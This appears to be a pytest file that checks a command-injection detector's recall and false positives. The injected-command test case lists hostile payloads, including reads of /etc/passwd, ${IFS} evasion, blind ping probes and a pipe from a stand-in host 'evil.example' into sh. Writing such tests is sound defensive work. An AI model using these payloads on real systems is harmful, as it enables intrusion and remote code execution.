"""OS command injection: recall on the attack corpus, false positives on benign values."""

from __future__ import annotations

import pytest

from tests.processors.threat import corpora
from tests.processors.threat.measure import NONE_FLAGGED, benign_hits, recall
from vigil.processors.threat import shell
from vigil.processors.threat.decoding import decode
from vigil.processors.threat.verdict import combine


def detect(value: str):
    return shell.analyse(decode(value, query=True))


def test_recall_on_httpparams_cmdi():
    assert recall("httpparams cmdi attacks", corpora.httpparams_attacks("cmdi"), detect).rate >= 0.99
    # All rows: "id", "'true'", "asdf3334" are plain words, nothing to see (see the exclusions).
    assert recall("httpparams cmdi", corpora.httpparams_label("cmdi"), detect).rate >= 0.93


def test_excluded_rows_are_counted():
    assert list(corpora.httpparams_excluded("cmdi").values()) == [4]


def test_recall_on_our_own_cmdi():
    ours = [v for category, v in corpora.attack_values() if category == "cmdi"]
    assert recall("vigil attack_values cmdi", ours, detect).rate == 1.0


def test_false_positives_on_benign_values():
    assert benign_hits(detect) == NONE_FLAGGED


@pytest.mark.parametrize(
    "value",
    [
        "Tom & Jerry",
        "AT&T",
        "R&D; marketing",
        "cat food; dog food",
        "ping me when you're free",
        "rock|paper|scissors",
        "$(document).ready(init)",
        "Run `pip install vigil` first",
        "echo chamber",
        "a; b; c",
        "price: $5 & up",
        "id card renewal",
        # commands quoted in a support form: a pipeline, prose around them, a benign ping
        "curl -s https://example.com | jq .",
        "rm -rf node_modules && npm install fixed it",
        "I tried `cat /etc/hosts` and see nothing",
        "Run `sleep 5` between calls?",
        "ls -la shows the file is there",
        "ping -c 4 google.com",
        "ping -c 4 192.168.1.1",
        "dir c: gives an error",
        "name: John | id: 42 | role: admin",
        "cat food | dog food",
        "cat /etc/hosts shows nothing",  # a system path, but in a sentence
    ],
)
def test_prose_with_separators_stays_quiet(value):
    assert combine(detect(value)) < 0.5


@pytest.mark.parametrize(
    "value",
    [
        ";id",
        "| whoami",
        "a && curl http://evil.example/x | sh",
        "`uname -a`",
        "$(cat /etc/passwd)",
        "x%0aid",
        "1;${IFS}cat${IFS}/etc/passwd",
        '<!--#exec cmd="id"-->',
        "';system('id');'",
        "& ping -n 10 127.0.0.1 &",
        "|| C:\\Windows\\System32\\cmd.exe /c dir",
        " dir c: |",  # a command and its arguments, cut off from the rest of the line
        "ls -la /tmp;",
        "ping -i 30 127.0.0.1",  # a blind time probe: pinging the host itself
        "ping -n 31 localhost",
    ],
)
def test_injected_commands(value):
    assert combine(detect(value)) >= 0.5
